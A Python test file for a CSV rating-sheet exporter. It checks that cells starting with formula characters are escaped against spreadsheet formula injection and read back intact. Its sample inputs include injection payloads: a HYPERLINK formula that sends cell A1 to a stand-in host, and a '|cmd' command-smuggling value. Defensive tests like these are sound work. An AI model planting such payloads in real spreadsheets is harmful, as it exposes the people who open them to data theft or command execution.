"""Texts of the data that a spreadsheet would take for formulas, in the sheets that raters open."""

import csv
import io
from pathlib import Path

import numpy as np
import pytest

from big_retrieval.explain.sheet import _csv, _Row, as_cell, of_cell
from big_retrieval.explain.tally import read

FORMULAS = ['=HYPERLINK("http://a.b/?"&A1)', "+1+2", "-2+3|cmd", "@SUM(A1)", "\t=1", "\r=1"]
PLAIN = ["a red circle", "", "'tis", "a=b", "5-3", "'quoted'"]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN, "'=1"])
def test_a_cell_gives_its_text_back_and_is_no_formula(text):
    if text != "'=1":  # which only an escaped text looks like
        assert of_cell(as_cell(text)) == text
    assert not as_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_texts_stay_as_they_are():
    assert [as_cell(text) for text in PLAIN] == PLAIN


def test_a_rating_sheet_holds_no_formula_and_is_read_as_if_it_did(tmp_path):
    rows = [
        _Row(f"{i:04d}", i + 1, text, [text, "word"], Path("model"), i)
        for i, text in enumerate(FORMULAS)
    ]
    text = _csv(rows, False, np.random.default_rng(0))
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    path = tmp_path / "sheet.csv"
    filled = [dict.fromkeys(row, "") | row for row in csv.DictReader(io.StringIO(text, newline=""))]
    for row in filled:
        row |= dict.fromkeys(("relevant_1", "relevant_2"), "yes")
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(filled[0]))
        writer.writeheader()
        writer.writerows(filled)
    wrong: list[str] = []
    sheet = read(path, wrong)
    assert wrong == []
    words = {word for answers in sheet.answers.values() for _, word in answers}
    assert "=HYPERLINK" in "".join(words)
